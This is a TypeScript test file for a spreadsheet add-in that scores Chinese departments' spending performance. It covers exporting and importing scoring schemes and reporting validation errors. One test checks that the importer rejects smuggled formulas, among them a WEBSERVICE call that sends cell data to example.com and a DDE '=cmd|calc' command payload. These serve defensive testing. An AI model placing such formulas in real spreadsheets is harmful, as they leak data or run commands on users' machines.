import { describe, expect, it } from 'vitest';
import { findScheme, schemes } from '../../../src/schemes';
import type { Scheme, SchemeIndicator, SchemeParse } from '../../../src/schemes';
import {
  exportScheme,
  importScheme,
  readSubmission,
  schemeFromSubmission,
  totals,
} from '../../../src/submission';
import type { SubmissionData } from '../../../src/submission';
import hengyang from '../../fixtures/hengyang-2022-corrected.json';
import corrected from '../../fixtures/xiangxi-2020-corrected.json';
import { edit } from '../support/editData';
import { dataOf, memoryBook, submissionOf } from '../support/memorySource';

const scoring = '部门整体支出绩效评价评分表';
const indicatorsOf = (scheme: Scheme): readonly SchemeIndicator[] =>
  scheme.forms.find(({ form }) => form === scoring)!.indicators;

function schemeOf(parse: SchemeParse): Scheme {
  if (!parse.ok) throw new Error(parse.problems.join('\n'));
  return parse.scheme;
}
const problemsOf = (parse: SchemeParse): readonly string[] => (parse.ok ? [] : parse.problems);

const edited = (rows: Readonly<Record<number, Readonly<Record<string, string | number>>>>): SubmissionData =>
  edit(dataOf(corrected), { form: scoring, rows: { 评价指标: rows } });

describe('方案存成文件再读进来', () => {
  it.each(schemes)('$id 一字不差', (scheme) => {
    expect(importScheme(exportScheme(scheme))).toEqual({
      ok: true,
      scheme: JSON.parse(JSON.stringify(scheme)) as Scheme,
    });
  });

  it('记事本加的 BOM 不碍事', () => {
    expect(importScheme(`\uFEFF${exportScheme(findScheme('yueyang')!)}`).ok).toBe(true);
  });

  const tamper = (change: (scheme: Record<string, unknown>) => void): readonly string[] => {
    const file = JSON.parse(exportScheme(findScheme('xiangxi-2020')!)) as { scheme: Record<string, unknown> };
    change(file.scheme);
    return problemsOf(importScheme(JSON.stringify(file)));
  };
  const table = (
    scheme: Record<string, unknown>,
  ): { indicators: Record<string, unknown>[]; levels: { weight: number }[]; surveys: { weight: number }[] } =>
    (scheme['forms'] as { form: string }[]).find(({ form }) => form === scoring) as never;

  it.each(['', '你好', '[]', '{"kind":"别的"}', '3'])('不是方案文件：%j', (text) => {
    expect(problemsOf(importScheme(text))).toEqual(['这不是方案文件：应是用“导出方案”得到的 JSON 文件。']);
  });

  it('格式版本更新的说清楚', () => {
    const newer = exportScheme(findScheme('yueyang')!).replace('"version": 1,', '"version": 2,');
    expect(problemsOf(importScheme(newer))).toEqual(['方案文件的格式版本是 2，只认 1；请升级加载项。']);
    const odd = newer.replace('"version": 2,', '"version": {"toString": null},');
    expect(problemsOf(importScheme(odd))).toEqual([
      '方案文件的格式版本是 （不是文字），只认 1；请升级加载项。',
    ]);
  });

  it('分值合计不是 100、评分标准读不懂、调查权重不对，都指出是哪一处', () => {
    const problems = tamper((scheme) => {
      table(scheme).levels[0]!.weight = 12;
      table(scheme).indicators[2]!['standard'] = '≤100%计满分；超了酌情扣分';
      table(scheme).surveys[0]!.weight = 0.6;
    });
    expect(problems).toHaveLength(3);
    expect(problems[0]).toBe(`《${scoring}》的分值合计是 99 分，应为 100 分。`);
    expect(problems[1]).toMatch(/“①在职人员控制率”的评分标准：第 10 个字起“超了酌情扣分”看不懂/);
    expect(problems[2]).toBe(`《${scoring}》满意度调查的权重合计 110%，应为 100%。`);
  });

  it.each([
    '=WEBSERVICE("http://example.com/"&A1)',
    '={在职人员数}+1',
    '=PBE.STAFFRATE({在职人员数},A1)',
    '=cmd|calc!A1',
  ])('夹带的公式 %s 不收', (formula) => {
    const [problem] = tamper((scheme) => (table(scheme).indicators[2]!['valueFormula'] = formula));
    expect(problem).toContain('第 3 行指标的指标值公式 valueFormula 只能是');
  });

  it('公式用了表上没有的参数、表名写错、等次名称带引号，都说明', () => {
    expect(
      tamper((scheme) => (table(scheme).indicators[2]!['valueFormula'] = '=PBE.SHARE({甲},{乙})')),
    ).toEqual([`《${scoring}》“①在职人员控制率”的指标值公式 =PBE.SHARE({甲},{乙}) 用了表上没有的参数。`]);
    expect(tamper((scheme) => ((scheme['forms'] as { form: string }[])[0]!.form = '封面'))).toEqual([
      '方案的第 1 张表“封面”不是本系统的表。',
    ]);
    expect(tamper((scheme) => ((scheme['grades'] as { label: string }[])[0]!.label = '优"'))[0]).toContain(
      '等次名称不能带',
    );
    expect(tamper((scheme) => (table(scheme).indicators[0]!['weight'] = '3分'))[0]).toContain(
      '第 1 行指标的分值 weight 应是 0 到 100 的数',
    );
  });
});

describe('由工作簿另存方案', () => {
  it('没有改过的工作簿，指标、分值、评分标准、公式、证据与原方案一样', () => {
    const scheme = schemeOf(schemeFromSubmission(submissionOf(dataOf(corrected))));
    const original = findScheme('xiangxi-2020')!;
    expect(scheme).toMatchObject({
      id: 'custom-xiangxi-2020',
      title: `${original.title}（自定义）`,
      grades: original.grades,
    });
    expect(scheme.forms).toEqual(original.forms);
    expect(scheme.basis[0]!.text).toContain('湘西州投资促进事务中心');
  });

  it('改了的评分标准、分值、指标名照现状；名字改了公式还认得，改过的行不再冒用原来的依据', () => {
    const data = edited({
      2: { 三级指标: '①在编人员控制率', 分值: 2, 评分标准: '≤100%计满分，每超1个百分点扣0.2分' },
      3: { 分值: 5, 评分标准: '≤0计满分；每超过1个百分点扣0.5分，扣完为止' },
    });
    // 在编人员控制率这一格里仍是原来的公式
    const book = memoryBook(data);
    const place = readSubmission(book)!
      .forms.find(({ form }) => form.id === scoring)!
      .blocks.get('评价指标')!
      .rows[2]!.cells.get('指标值')!.place!;
    book.sheets
      .find(({ id }) => id === place.sheetId)!
      .formula(place.row, place.column, '=PBE.STAFFRATE(评分_在职人员数,评分_编制数)', true);
    const scheme = schemeOf(schemeFromSubmission(readSubmission(book)!, { title: '本州 2021' }));
    expect(scheme.title).toBe('本州 2021');
    expect(indicatorsOf(scheme)[2]).toEqual({
      level1: '1、投入（13分）',
      level2: '（2）预算配置',
      indicator: '①在编人员控制率',
      weight: 2,
      standard: '≤100%计满分，每超1个百分点扣0.2分',
      valueFormula: '=PBE.STAFFRATE({在职人员数},{编制数})',
    });
    expect(indicatorsOf(scheme)[3]).not.toHaveProperty('evidence');
    expect(indicatorsOf(scheme)[4]).toMatchObject({ evidence: 'PUBLIC' });
  });

  it('存出来的方案装进另一个工作簿，按新标准计分', () => {
    const data = edited({ 8: { 评分标准: '100%（含）以下计满分；每超过1个百分点扣2分，扣完为止' } });
    const text = exportScheme(schemeOf(schemeFromSubmission(submissionOf(data))));
    const scheme = schemeOf(importScheme(text));
    const fresh = readSubmission(
      memoryBook(
        dataOf({
          scheme: 'xiangxi-2020',
          year: 2021,
          unit: '另一单位',
          forms: [{ form: scoring, values: { 公用经费实际支出: 13.41, 公用经费预算数: 13 } }],
        }),
        scheme,
      ),
    )!;
    const row = fresh.forms[0]!.blocks.get('评价指标')!.rows[8]!;
    // 13.41÷13＝103.15%，超 3 个百分点：8－3×2＝2
    expect(row.cells.get('得分')!.cell.value).toBe(2);
    expect(fresh.scheme.id).toBe('custom-xiangxi-2020');
    expect(totals(fresh)[0]!.grade).toBe('');
  });

  it('分值不满 100、评分标准读不懂时不存，说明是哪一处', () => {
    expect(problemsOf(schemeFromSubmission(submissionOf(edited({ 0: { 分值: 2 } }))))[0]).toBe(
      `《${scoring}》的分值合计是 99 分，应为 100 分。`,
    );
    expect(problemsOf(schemeFromSubmission(submissionOf(edited({ 4: { 评分标准: '酌情' } }))))[0]).toMatch(
      /“①预算完成率”的评分标准：第 1 个字起“酌情”看不懂/,
    );
  });

  it('自评表照现有指标；一个项目一张的表仍照原方案', () => {
    const scheme = schemeOf(schemeFromSubmission(submissionOf(dataOf(hengyang))));
    const form = (id: string) => scheme.forms.find((candidate) => candidate.form === id)!;
    expect(form('部门整体支出绩效自评表').indicators[0]).toEqual({
      level1: '产出指标（50分）',
      level2: '数量指标',
      indicator: '招商考察',
      target: '≥3次',
      weight: 6,
    });
    expect(form('部门整体支出绩效自评表').levels).toEqual([
      { level1: '产出指标', weight: 50 },
      { level1: '效益指标', weight: 40 },
    ]);
    expect(form('项目支出绩效自评表')).toEqual(
      findScheme('hengyang-2022')!.forms.find((candidate) => candidate.form === '项目支出绩效自评表'),
    );
  });
});
